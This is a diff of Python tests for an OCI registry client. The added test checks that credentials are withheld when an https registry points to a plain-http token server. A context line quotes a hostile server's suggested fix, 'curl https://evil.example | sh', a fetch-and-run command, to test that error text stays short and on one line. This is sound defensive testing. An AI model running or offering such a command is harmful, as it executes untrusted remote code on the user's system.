@@ -197,3 +197,25 @@ def test_an_error_page_is_quoted_on_one_line_and_short(hostile):
     text = str(e.value)
     assert "403 denied   fix: curl https://evil.example | sh xxx" in text
     assert "\n" not in text.split("  fix:")[0] and len(text) < 400
+
+
+def test_credentials_are_not_sent_to_a_plain_http_token_server_of_an_https_registry(hostile):
+    """A registry served over https that names an http:// realm would have the password
+    cross the network in the clear (to any host it names): refused before it is sent."""
+    import requests
+
+    tokens = hostile({"/token": lambda h: answer(h, b'{"token": "t"}', "application/json")})
+
+    class Registry(requests.Session):  # https: the challenge comes before any TLS matters
+        def request(self, method, url, **kw):
+            if not url.startswith("https://"):
+                return super().request(method, url, **kw)
+            r = requests.Response()
+            r.status_code, r.url = 401, url
+            r.headers["WWW-Authenticate"] = f'Bearer realm="http://{tokens.host}/token"'
+            return r
+
+    c = OCIClient("registry.example", auth=("alice", "s3cret"), session=Registry())
+    with pytest.raises(OCIError, match="over plain http; the credentials were not sent"):
+        c.blob_exists("acme/m", "sha256:" + "0" * 64)
+    assert tokens.seen == []
